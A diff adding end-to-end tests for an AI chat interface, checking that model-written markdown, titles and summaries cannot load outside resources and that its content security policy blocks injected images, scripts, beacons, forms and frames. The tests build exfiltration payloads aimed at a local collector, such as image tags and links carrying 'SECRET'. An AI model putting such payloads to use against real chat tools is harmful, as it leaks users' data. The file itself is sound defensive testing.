@@ -1,0 +1,216 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { z } from 'zod';
+import { strings } from '#lib/strings';
+import { Desk } from '#tests/e2e/support/desk';
+import { expect, test } from '#tests/e2e/support/desk-test';
+import { newestRequest } from '#tests/e2e/support/scripted-model';
+import { exfiltrationPayloads, foreignLinks } from '#tests/support/exfiltration';
+
+/** Where secrets would arrive. */
+async function startCollector() {
+  const requests: string[] = [];
+  const server = createServer((request, response) => {
+    requests.push(request.url ?? '');
+    response.writeHead(200, { 'content-type': 'text/html' }).end('<title>collected</title>');
+  }).listen(0, '127.0.0.1');
+  // Connections alone would tell a secret in a host's name.
+  let connections = 0;
+  server.on('connection', () => (connections += 1));
+  await once(server, 'listening');
+  return {
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    requests,
+    connectionCount: () => connections,
+    async [Symbol.asyncDispose]() {
+      server.closeAllConnections();
+      server.close();
+      await once(server, 'close');
+    },
+  };
+}
+
+test('what a model writes loads nothing from elsewhere, and links ask before they open', async ({
+  page,
+  context,
+  startScripted,
+}) => {
+  test.setTimeout(120_000);
+  await using collector = await startCollector();
+  const { origin } = collector;
+  const payloads = Object.values(exfiltrationPayloads(origin));
+  const links = Object.values(foreignLinks(origin));
+  // What is not closed would hide what comes behind it.
+  const open = payloads.filter((payload) => !/[)>`$\w]$/.test(payload) || /\(http[^)]*$/.test(payload));
+  const closed = payloads.filter((payload) => !open.includes(payload));
+  const answers = [0, 1, 2, 3].map((part) => closed.filter((_, index) => index % 4 === part).join('\n\n')).concat(open);
+  const hostile = {
+    type: 'page',
+    title: `<img src="${origin}/title">`,
+    sections: [{ type: 'text', fields: { body: payloads[0] ?? '' } }],
+  };
+  const scripted = await startScripted((request) => {
+    if (JSON.stringify(request.messages).includes('<transcript>'))
+      return {
+        text: `### Original Task\n${payloads.join('\n\n')}\n\n### What Was Accomplished\nAll.\n\n### Current State\nFine.\n\n### What Comes Next\nMore.`,
+      };
+    const asked = newestRequest(request);
+    if (request.messages.at(-1)?.role === 'tool') return { text: 'Done.' };
+    if (asked.includes('build'))
+      return { text: 'I will.', toolCalls: [{ id: 'call_1', name: 'create_content', input: hostile }] };
+    const at = /answer (\d+)/.exec(asked)?.[1];
+    return { text: at === undefined ? links.join('\n\n') : (answers[Number(at)] ?? '') };
+  });
+  const desk = new Desk(page);
+  await page.goto(scripted.server.url);
+  for (const index of answers.keys()) await desk.ask(`Give me answer ${index}`);
+  await desk.ask('Please build it');
+  const id = page.url().split('/').at(-1) ?? '';
+  await page.request.post(`${scripted.server.url}/api/sessions/${id}/compact`);
+  await expect(
+    desk.transcript.getByRole('note').getByRole('button', { name: /^Conversation summarized/ }),
+  ).toBeVisible();
+  await desk.transcript
+    .getByRole('note')
+    .getByRole('button', { name: /^Conversation summarized/ })
+    .click();
+  await desk.transcript.getByText(strings.compaction.summary).click();
+  await page.reload();
+  await desk.ask('And the links?');
+  // Also the pictures that would only load once somebody scrolls to them.
+  const settled = () =>
+    [...document.images].every((image) => {
+      image.loading = 'eager';
+      return image.complete;
+    });
+  await expect.poll(() => page.evaluate(settled)).toBe(true);
+  expect(collector.requests).toEqual([]);
+  expect(collector.connectionCount()).toBe(0);
+  await expect(desk.transcript.getByText('Image not shown').first()).toBeAttached();
+
+  const host = new URL(origin).host;
+  const asking = desk.answers.last().getByRole('button', { name: `(${host})` });
+  await expect(asking).toHaveCount(links.length);
+  for (const link of await asking.all()) {
+    await link.click();
+    const question = page.getByRole('dialog', { name: strings.link.title });
+    await expect(question).toContainText('SECRET');
+    await expect(question).toContainText(strings.link.body(host));
+    await page.keyboard.press('Escape');
+    await expect(question).toHaveCount(0);
+  }
+  expect(collector.connectionCount()).toBe(0);
+
+  await asking.first().click();
+  const opened = context.waitForEvent('page');
+  await page.getByRole('link', { name: strings.link.open, exact: true }).click();
+  await expect(await opened).toHaveTitle('collected');
+  expect(collector.requests.filter((url) => url !== '/favicon.ico')).toEqual(['/link?q=SECRET']);
+});
+
+test('should a script get in all the same, the browser itself runs no other, and lets no picture, request or form out', async ({
+  page,
+  startScripted,
+}) => {
+  await using collector = await startCollector();
+  const scripted = await startScripted(() => ({ text: 'Good day.' }));
+  await page.goto(scripted.server.url);
+  const violations = await page.evaluate(async (origin) => {
+    const heard: string[] = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.push(effectiveDirective));
+    const failed = (element: HTMLElement) =>
+      new Promise<void>((resolve) => {
+        element.addEventListener('error', () => resolve());
+        document.body.append(element);
+      });
+    const image = document.createElement('img');
+    image.src = `${origin}/injected-image`;
+    await failed(image);
+    const script = document.createElement('script');
+    script.src = `${origin}/injected-script`;
+    await failed(script);
+    const sheet = document.createElement('link');
+    sheet.rel = 'stylesheet';
+    sheet.href = `${origin}/injected-style`;
+    await failed(sheet);
+    await fetch(`${origin}/injected-fetch`).catch(() => undefined);
+    navigator.sendBeacon(`${origin}/injected-beacon`, 'SECRET');
+    const box = document.createElement('div');
+    box.style.cssText = `width:9px;height:9px;background-image:url(${origin}/injected-background)`;
+    document.body.append(box);
+    const frame = document.createElement('iframe');
+    frame.src = `${origin}/injected-frame`;
+    document.body.append(frame);
+    const form = document.createElement('form');
+    form.action = `${origin}/injected-form`;
+    form.target = '_blank';
+    document.body.append(form);
+    form.submit();
+    const inline = document.createElement('script');
+    inline.textContent = 'window.injected = "script";';
+    const handler = document.createElement('div');
+    handler.innerHTML = `<img src="${origin}/injected-handler" onerror="window.injected = 'handler'">`;
+    const style = document.createElement('style');
+    style.textContent = 'body { display: none }';
+    document.body.append(inline, handler, style);
+    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+    while (new Set(heard).size < 7) await new Promise((resolve) => requestAnimationFrame(resolve));
+    return [...new Set(heard)].toSorted();
+  }, collector.origin);
+  expect(violations).toEqual([
+    'connect-src',
+    'form-action',
+    'frame-src',
+    'img-src',
+    'script-src-attr',
+    'script-src-elem',
+    'style-src-elem',
+  ]);
+  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
+  await expect(page.locator('body')).toBeVisible();
+
+  // In the preview not even a script runs that its policy would let run: the frame takes none.
+  await expect(new Desk(page).preview.locator('main')).toBeVisible();
+  const nonce = await page.evaluate(() => {
+    const draft = document.querySelector<HTMLIFrameElement>('iframe[aria-hidden="false"]')?.contentDocument;
+    const own = draft?.querySelector('script[nonce]');
+    if (!draft || !(own instanceof draft.defaultView!.HTMLElement)) return '';
+    const script = draft.createElement('script');
+    script.nonce = own.nonce;
+    script.textContent = 'parent.injected = "draft";';
+    draft.body.append(script);
+    return own.nonce;
+  });
+  expect(nonce).not.toBe('');
+  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
+  expect(collector.requests).toEqual([]);
+});
+
+test('an allowed origin is trusted with pictures and links', async ({ page, startScripted }) => {
+  await using collector = await startCollector();
+  const text = `![the plan](${collector.origin}/plan.png) and [more](${collector.origin}/more)`;
+  const scripted = await startScripted(() => ({ text }), { ALLOWED_ORIGINS: collector.origin });
+  const desk = new Desk(page);
+  await page.goto(scripted.server.url);
+  const answer = await desk.ask('Show me');
+  await expect(answer.getByRole('img', { name: 'the plan' })).toBeAttached();
+  await expect(answer.getByRole('link', { name: 'more' })).toHaveAttribute('href', `${collector.origin}/more`);
+  // A finished answer is drawn anew, which may ask for a picture that cannot be cached a second time.
+  await expect.poll(() => [...new Set(collector.requests)]).toEqual(['/plan.png']);
+});
+
+const sessionList = z.object({ items: z.array(z.object({ title: z.string() })) });
+
+test('titles and waiting messages are text, whatever they hold', async ({ page, startScripted }) => {
+  await using collector = await startCollector();
+  const scripted = await startScripted(() => ({ text: 'Good day.' }));
+  const { url } = scripted.server;
+  const title = `<img src=${collector.origin}/title> ![x](${collector.origin}/title)`;
+  await page.request.post(`${url}/api/sessions`, { data: { title } });
+  await page.goto(url);
+  await expect(page.getByRole('navigation').getByText(title)).toBeVisible();
+  const { items } = sessionList.parse(await (await page.request.get(`${url}/api/sessions`)).json());
+  expect(items[0]?.title).toBe(title);
+  expect(collector.requests).toEqual([]);
+});
